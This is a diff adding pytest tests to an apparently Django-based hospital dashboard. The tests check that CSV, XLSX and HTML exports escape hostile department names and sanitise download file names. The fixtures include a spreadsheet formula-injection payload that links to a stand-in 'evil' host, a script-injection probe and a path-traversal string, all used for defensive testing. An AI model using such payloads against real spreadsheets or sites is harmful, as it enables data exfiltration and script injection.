@@ -101,3 +101,43 @@ def test_export_refuses_a_bad_range_in_plain_words(client_for, head_nurse, data)
     )
     assert response.status_code == 400
     assert response.content.decode() == "The start date must be on or before the end date."
+
+
+@time_machine.travel(NOW, tick=False)
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_hostile_department_name_and_code_stay_harmless_in_the_export_and_its_file_name(
+    client_for, head_nurse, fmt, settings
+):
+    hostile = DepartmentFactory(code='"><x>../\\;\r', name='=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>')
+    hostile.staff.add(head_nurse)
+    chinese = DepartmentFactory(code="心内科", name="心内科")
+    chinese.staff.add(head_nurse)
+    client = client_for(head_nurse)
+    response = client.get(reverse(f"calls:dashboard_export_{fmt}"), {"start": "2026-11-01", "department": hostile.pk})
+    assert response["Content-Disposition"] == f'attachment; filename="dashboard-x-20261101-20261126.{fmt}"'
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert rows[2][0] == '\'=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>'
+    else:
+        sheet = load_workbook(io.BytesIO(response.content))["1 Dashboard"]
+        assert sheet["A2"].value == '\'=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>'
+    response = client.get(reverse(f"calls:dashboard_export_{fmt}"), {"start": "2026-11-01", "department": chinese.pk})
+    assert (
+        response["Content-Disposition"]
+        == f'attachment; filename="dashboard-department{chinese.pk}-20261101-20261126.{fmt}"'
+    )
+
+
+@time_machine.travel(NOW, tick=False)
+def test_the_export_of_all_her_departments_names_them_and_the_page_prints_them(client_for, head_nurse, data):
+    second = DepartmentFactory(code="NEU", name="Neurology <b>")
+    second.staff.add(head_nurse)
+    client = client_for(head_nurse)
+    response = client.get(reverse("calls:dashboard_export_csv"), {"start": "2026-11-01"})
+    assert response["Content-Disposition"] == 'attachment; filename="dashboard-CARD-NEU-20261101-20261126.csv"'
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[2] == ["Cardiology, Neurology <b>", "2026-11-01", "2026-11-26", "26"]
+    html = client.get(reverse("calls:dashboard"), {"start": "2026-11-01"}).content.decode()
+    scope = html.split('id="dash-scope">')[1].split("</p>")[0]
+    assert scope == "Cardiology, Neurology &lt;b&gt;: 2026-11-01 to 2026-11-26"
+    assert "d-print-none" not in html.split('id="dash-scope"')[0].rsplit("<p", 1)[1]
